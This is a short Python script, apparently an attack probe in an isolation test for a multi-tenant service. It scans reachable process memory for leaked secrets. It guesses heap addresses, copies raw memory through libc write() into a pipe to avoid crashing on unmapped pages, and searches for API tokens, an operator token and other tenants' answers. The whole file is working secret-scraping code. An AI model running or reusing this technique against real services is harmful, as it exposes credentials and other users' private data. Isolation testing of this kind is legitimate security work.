"""Read all memory that can be reached for tokens and other tenants' words."""

import ctypes
import gc
import os
import re

SECRET = re.compile(rb"wp_[A-Za-z0-9_-]{16,}|victim\x27s own answer|WAYPOST_OPERATOR_TOKEN\x3d")
STEP = 1 << 16


def attempt():
    # write(2) answers EFAULT where there is no memory, so that looking does no harm.
    reader, writer = os.pipe()
    libc = ctypes.CDLL(None, use_errno=True)
    libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
    gc.unfreeze()
    pages = {id(item) >> 20 for item in gc.get_objects()} | {libc.sbrk(0) % (1 << 64) >> 20}
    megabytes = {page + n for page in pages for n in range(-2, 3) if page > 2}
    hits, seen = [], 0
    for megabyte in sorted(megabytes):
        for address in range(megabyte << 20, (megabyte + 1) << 20, STEP):
            count = libc.write(writer, address, STEP)
            if count <= 0:
                continue
            seen += count
            found = SECRET.search(os.read(reader, count))
            if found:
                hits.append(found[0].decode())
    return {"success": bool(hits) or seen < 4 << 20, "detail": {"hits": hits, "seen": seen}}
